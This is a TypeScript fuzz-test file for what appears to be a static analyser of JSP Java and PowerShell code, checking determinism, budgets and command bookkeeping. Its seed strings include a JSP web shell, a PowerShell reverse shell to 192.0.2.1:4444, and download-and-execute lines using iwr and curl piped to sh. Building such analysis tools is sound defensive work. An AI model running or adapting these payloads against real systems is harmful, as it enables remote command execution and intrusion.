import { useGrammarFiles } from '../../src/grammar-files.ts';
import type { LanguageReader } from '../../src/trace/language.ts';
import { java } from '../../src/trace/languages/java/java.ts';
import { powershell } from '../../src/trace/languages/powershell/powershell.ts';
import { known } from '../../src/trace/value.ts';
import { type FuzzTarget, invariant } from './target.ts';

/**
 * Code of a scripting language: never throws, keeps to its budget, nested code belongs to commands that exist, the same
 * each time.
 */
export function scriptTarget(reader: LanguageReader, seeds: readonly string[]): FuzzTarget {
  return {
    name: reader.id,
    slowest: 3_000,
    seeds: () => seeds.map((text) => Buffer.from(text)),
    async run(input) {
      useGrammarFiles();
      await reader.prepare();
      const text = new TextDecoder().decode(input);
      const once = (): string => {
        const budget = { steps: 200_000, decodedBytes: 1_000_000, commands: 2_000 };
        const args = [known('x')];
        const reading = reader.read({ text, args, env: new Map(), cwd: '/', readFile: () => undefined, budget });
        invariant(reading.commands.length <= 2_000, 'more commands than allowed');
        for (const { command } of reading.nested) {
          invariant(command === undefined || reading.commands[command] !== undefined, 'nested code of no command');
        }
        for (const { line } of reading.effects) invariant(line >= 1, `no such line: ${line}`);
        return JSON.stringify(reading);
      };
      const first = once();
      invariant(first === once(), 'not the same twice');
    },
  };
}

/** Java of JSP pages. */
export const javaTarget: FuzzTarget = scriptTarget(java, [
  '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>\n<%= p %>',
  '<%! class U extends ClassLoader { U(ClassLoader c){super(c);} Class g(byte[] b){ return super.defineClass(b,0,b.length); } } %>',
  '<jsp:scriptlet><![CDATA[ new ProcessBuilder("sh", "-c", "id").start(); ]]></jsp:scriptlet>',
  'class A { void b() { for (int i = 0; i < 9; i++) s += (char)(k[i] ^ 5); Socket c = new Socket("192.0.2.9", 1); } }',
]);

/** PowerShell. */
export const powershellTarget: FuzzTarget = scriptTarget(powershell, [
  "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444); while(($i = $s.Read($b, 0, 9)) -ne 0){ iex $d }",
  'iwr "http://203.0.113.9/$x" -OutFile /tmp/a; & /tmp/a; curl http://203.0.113.9/b | sh > /tmp/o',
  'function f($p) { if ($p -eq 1) { return "a" } else { -join ("b"[3..0]) } }\nswitch ($x) { 1 { id } default { who } }',
  "@'\ntext\n'@ | Out-File -Append /mnt/x\n$h = @{ a = 1; 'b' = @(1,2) }\n[Convert]::FromBase64String('aWQ=')",
]);
